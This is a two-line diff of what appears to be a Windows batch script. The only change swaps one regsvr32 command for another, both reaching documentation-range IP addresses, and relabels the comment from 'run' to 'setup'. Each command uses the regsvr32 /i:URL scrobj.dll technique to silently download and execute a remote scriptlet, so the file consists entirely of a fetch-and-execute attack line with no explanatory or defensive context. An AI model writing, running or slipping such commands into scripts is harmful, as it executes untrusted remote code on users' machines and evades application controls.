@@ -1,2 +1,2 @@
-REM run 7747 v2
-regsvr32 /s /n /u /i:http://192.0.2.150/file.sct scrobj.dll
+REM setup 0485 v2
+regsvr32 /s /n /u /i:http://203.0.113.17/file.sct scrobj.dll
